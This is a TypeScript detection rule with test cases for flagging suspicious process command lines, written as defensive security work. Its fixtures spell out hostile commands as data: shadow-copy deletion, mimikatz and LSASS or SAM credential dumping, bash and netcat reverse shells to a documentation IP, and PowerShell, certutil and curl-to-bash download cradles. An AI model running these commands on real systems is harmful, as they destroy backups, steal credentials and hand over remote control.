import type { Detection, DetectionCase } from "../detection.ts";
import { quote, textField } from "../text.ts";
import { finding, quiet, typed } from "./case-events.ts";
import { userOf } from "./evidence.ts";
import { PROCESS_CLUES } from "./process-clues.ts";
import { sightings, signalOf } from "./web-evidence.ts";

/** A longer command line is inspected as its first and last halves: padding goes in front or behind. */
const MAX_LENGTH = 16 * 1024;

/**
 * A process whose command line attackers use and administrators hardly ever do. Its technique is that of what it finds
 * (`techniqueOf`).
 */
export const detection: Detection = {
  id: "suspicious-process",
  title: "Suspicious process",
  actions: [
    "Isolate the host",
    "Look at the parent process and at what the process started or wrote",
    "Change the credentials of the user it ran as",
  ],
  reads: ["command_line", "image"],
  examine({ event }) {
    const line = commandLine(event.payload);
    if (line === "") return undefined;
    const forms = [line.toLowerCase()];
    // cmd.exe drops carets and quotes, so `p^ow"er"shell` runs.
    if (/[\^"'`]/.test(line)) forms.push(line.toLowerCase().replaceAll(/[\^"'`]/g, ""));
    const seen = sightings(forms, PROCESS_CLUES);
    const worst = PROCESS_CLUES.find(({ label }) => label === seen[0]?.label);
    if (worst === undefined) return undefined;
    const user = userOf(event.payload);
    const whose = user === undefined ? "" : ` of user ${quote(user, 64)}`;
    return {
      detection: detection.id,
      severity: worst.severity,
      threat_type: worst.threatType,
      confidence: Math.min(0.97, worst.confidence + 0.05 * (seen.length - 1)),
      summary: `Suspicious process${whose}: ${seen.map(({ label }) => label).join(", ")}`,
      signals: seen.map(signalOf),
    };
  },
};

function commandLine(payload: Readonly<Record<string, unknown>>): string {
  const line = textField(payload, "command_line") ?? "";
  const image = textField(payload, "image") ?? "";
  const whole = image === "" ? line : `${image}\n${line}`;
  if (whole.length <= MAX_LENGTH) return whole;
  return `${whole.slice(0, MAX_LENGTH / 2)}\n${whole.slice(-MAX_LENGTH / 2)}`;
}

const run = (line: string, image = "", eventType = "process_execution") =>
  typed(eventType, { command_line: line, image, user: "bob" });

export const cases: readonly DetectionCase[] = [
  ...finding("CRITICAL", "RANSOMWARE", {
    "deleted shadow copies": run(
      "vssadmin.exe Delete Shadows /all /quiet",
      "C:\\Windows\\System32\\vssadmin.exe",
    ),
    "deleted shadow copies, by WMI": run("wmic shadowcopy delete /nointeractive"),
    "recovery switched off": run("bcdedit /set {default} recoveryenabled No"),
    "hidden by carets": run('cmd /c v^ss"ad"min del^ete shadows /all'),
    "called normal": run("vssadmin delete shadows /all", "", "normal_traffic"),
  }),
  ...finding("CRITICAL", "CREDENTIAL_ACCESS", {
    mimikatz: run("mimikatz.exe sekurlsa::logonpasswords exit"),
    "mimikatz by its image": run("x.exe", "C:\\Temp\\mimikatz.exe"),
    "a dump of LSASS": run("rundll32 C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\l.dmp full"),
    "the SAM hive": run("reg save HKLM\\SAM C:\\sam.hiv"),
  }),
  ...finding("CRITICAL", "COMMAND_INJECTION", {
    "a reverse shell of bash": run("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    "a reverse shell of netcat": run("nc 203.0.113.9 4444 -e /bin/sh"),
    "a reverse shell of Python": run("python3 -c 'import socket,subprocess,os;s=socket.socket()'"),
  }),
  ...finding("HIGH", "MALWARE", {
    "encoded PowerShell": run("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
    "a download cradle": run(
      "powershell IEX (New-Object Net.WebClient).DownloadString('http://e.example/a')",
    ),
    "a download by certutil": run("certutil -urlcache -split -f http://e.example/a.exe a.exe"),
    "a script from the web": run("curl -fsSL https://e.example/install.sh | sudo bash"),
  }),
  ...quiet({
    "a service": run("C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule"),
    "a PowerShell script": run("powershell.exe -ExecutionPolicy Bypass -File C:\\ops\\deploy.ps1 -Env prod"),
    "a list of shadow copies": run("vssadmin list shadows"),
    "a certificate check": run("certutil -verify server.cer"),
    "a download": run("curl -fsSL https://example.com/data.csv -o data.csv"),
    "an interactive shell": run("bash -i"),
    "a port check": run("nc -zv db.internal 5432"),
    "a filter for shells": run("ps aux | grep bash"),
    "no command line": typed("process_execution", { image: "/usr/bin/node", user: "app" }),
  }),
];
